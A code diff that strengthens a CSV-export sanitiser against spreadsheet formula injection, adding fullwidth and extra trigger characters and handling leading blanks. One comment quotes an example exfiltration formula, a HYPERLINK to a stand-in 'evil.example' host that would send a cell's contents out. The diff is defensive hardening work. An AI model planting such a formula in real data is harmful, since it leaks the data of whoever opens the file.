@@ -453,15 +453,20 @@ class _Echo:
         return value
 
 
-#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list). Topics and
-#: quotes are visitors' and a model's words: `=HYPERLINK("https://evil.example/?"&C2,"x")`
-#: must stay text when an admin opens the export.
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list, with `|` and
+#: `;`, and the fullwidth forms some spreadsheets read as their ASCII twins). Topics and quotes
+#: are visitors' and a model's words: `=HYPERLINK("https://evil.example/?"&C2,"x")` must stay
+#: text when an admin opens the export.
+_FORMULA_START = frozenset("=+-@|;\uff1d\uff0b\uff0d\uff20\uff5c\uff1b")
+#: Blanks a spreadsheet skips before it looks for a formula; tab, CR and LF start one themselves.
+_BLANK_START = ("\t", "\r", "\n")
 
 
 def _neutralised(value: object) -> object:
-    """Text that a spreadsheet would run, prefixed with a single quote (OWASP); numbers as they are."""
-    if isinstance(value, str) and value.startswith(_FORMULA_START):
+    """Text that a spreadsheet would run, prefixed with a single quote (OWASP): text starting
+    with a blank that starts a formula, or whose first non-blank character does. Numbers as
+    they are."""
+    if isinstance(value, str) and (value.startswith(_BLANK_START) or value.lstrip()[:1] in _FORMULA_START):
         return "'" + value
     return value
 
